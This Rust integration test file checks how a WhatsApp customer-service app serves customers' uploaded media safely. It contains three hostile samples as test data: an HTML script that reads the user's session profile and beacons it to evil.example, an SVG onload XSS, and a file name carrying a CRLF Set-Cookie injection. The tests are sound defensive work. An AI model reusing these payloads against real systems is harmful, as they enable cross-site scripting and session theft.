//! Serving customers' files safely (security review, issue #11): the bytes, not the sender's
//! declared type, decide what a browser may show in place; everything else is a sandboxed
//! download, and a customer's file name can never break the answer's headers.

use std::time::Duration;

use reqwest::header::HeaderMap;
use serde_json::Value;

use crate::helpers::{TestApp, wait_until};
use crate::on_both_backends;
use crate::samples;

on_both_backends!(
    html_declared_as_an_image_is_a_sandboxed_download,
    svg_declared_as_an_image_is_a_sandboxed_download,
    a_real_png_is_shown_inline_with_its_sniffed_type,
    a_document_name_with_line_breaks_downloads_with_a_safe_disposition,
);

const SANDBOX: &str = "sandbox; default-src 'none'";

/// A customer sends this webhook (one media message); returns the message as the API lists it
/// and the path of its file, once Atende has downloaded the file from Meta.
async fn receive(app: &TestApp, wa_id: &str, (wamid, payload): (String, Value)) -> (Value, String) {
    assert_eq!(app.post_webhook(&payload).await.status(), 200);
    app.inbox_drained().await;
    let message = app
        .messages_of(wa_id)
        .await
        .into_iter()
        .find(|m| m["wamid"] == wamid.as_str())
        .expect("the message is listed");
    let media_id = message["media_id"].as_i64().expect("a media row");
    let path = format!("/api/media/{media_id}");
    wait_until("the download", Duration::from_secs(20), || async {
        app.get_bytes(&path).await.0 == 200
    })
    .await;
    (message, path)
}

fn header<'a>(headers: &'a HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .unwrap_or_else(|| panic!("no {name} header"))
        .to_str()
        .expect("a visible ASCII header")
}

fn assert_sandboxed_download(headers: &HeaderMap) {
    assert_eq!(header(headers, "content-type"), "application/octet-stream");
    let disposition = header(headers, "content-disposition");
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert_eq!(header(headers, "content-security-policy"), SANDBOX);
    assert_eq!(header(headers, "x-content-type-options"), "nosniff");
}

async fn html_declared_as_an_image_is_a_sandboxed_download(app: TestApp) {
    let customer = app.customer("5511970000101", "Atacante");
    let html = b"<html><body><script>fetch('/api/auth/me').then(r => r.json())\
                 .then(me => navigator.sendBeacon('https://evil.example/', JSON.stringify(me)))\
                 </script></body></html>";
    let id = app
        .sim
        .add_customer_media(html.to_vec().into(), "text/html");
    let webhook = app.builder.image(&customer, &id, "text/html", None);
    let (_, path) = receive(&app, "5511970000101", webhook).await;
    let (_, served, headers) = app.get_bytes(&path).await;
    assert_eq!(
        served, html,
        "the bytes are kept, only their serving changes"
    );
    assert_sandboxed_download(&headers);
}

async fn svg_declared_as_an_image_is_a_sandboxed_download(app: TestApp) {
    let customer = app.customer("5511970000102", "Atacante");
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>";
    let id = app
        .sim
        .add_customer_media(svg.to_vec().into(), "image/svg+xml");
    let webhook = app.builder.image(&customer, &id, "image/svg+xml", None);
    let (_, path) = receive(&app, "5511970000102", webhook).await;
    let (_, _, headers) = app.get_bytes(&path).await;
    assert_sandboxed_download(&headers);
    // The route's errors carry the policy too.
    let (status, _, headers) = app.get_bytes("/api/media/987654321").await;
    assert_eq!(status, 404);
    assert_eq!(header(&headers, "content-security-policy"), SANDBOX);
}

async fn a_real_png_is_shown_inline_with_its_sniffed_type(app: TestApp) {
    let customer = app.customer("5511970000103", "Fotógrafa");
    // Declared with parameters a browser does not need: the answer's type is the sniffed one.
    let id = app
        .sim
        .add_customer_media(samples::PNG.to_vec().into(), "image/png");
    let webhook = app
        .builder
        .image(&customer, &id, "image/png; charset=binary", Some("print"));
    let (_, path) = receive(&app, "5511970000103", webhook).await;
    let (_, served, headers) = app.get_bytes(&path).await;
    assert_eq!(served, samples::PNG);
    assert_eq!(header(&headers, "content-type"), "image/png");
    let disposition = header(&headers, "content-disposition");
    assert!(disposition.starts_with("inline;"), "{disposition}");
    assert_eq!(header(&headers, "content-security-policy"), SANDBOX);
    assert_eq!(header(&headers, "x-content-type-options"), "nosniff");
}

async fn a_document_name_with_line_breaks_downloads_with_a_safe_disposition(app: TestApp) {
    let customer = app.customer("5511970000104", "Cliente");
    let id = app
        .sim
        .add_customer_media(samples::PDF.to_vec().into(), "application/pdf");
    let name = "Relatório\r\nSet-Cookie: sessao=roubada\r\n\"março\".pdf";
    let webhook = app
        .builder
        .document(&customer, &id, "application/pdf", name, None);
    let (_, path) = receive(&app, "5511970000104", webhook).await;
    let (status, served, headers) = app.get_bytes(&path).await;
    assert_eq!(status, 200);
    assert_eq!(served, samples::PDF);
    assert!(headers.get("set-cookie").is_none());
    assert_sandboxed_download(&headers);
    assert_eq!(
        header(&headers, "content-disposition"),
        "attachment; filename=\"Relat_rioSet-Cookie: sessao=roubadamar_o.pdf\"; \
         filename*=UTF-8''Relat%C3%B3rioSet-Cookie%3A%20sessao%3Droubadamar%C3%A7o.pdf"
    );
    // The stored name was cleaned when the file was downloaded, so the app shows it clean too.
    let message = app
        .messages_of("5511970000104")
        .await
        .into_iter()
        .find(|m| m["media_id"].as_i64().is_some())
        .expect("the document message");
    assert_eq!(
        message["media"]["filename"],
        "RelatórioSet-Cookie: sessao=roubadamarço.pdf"
    );
}
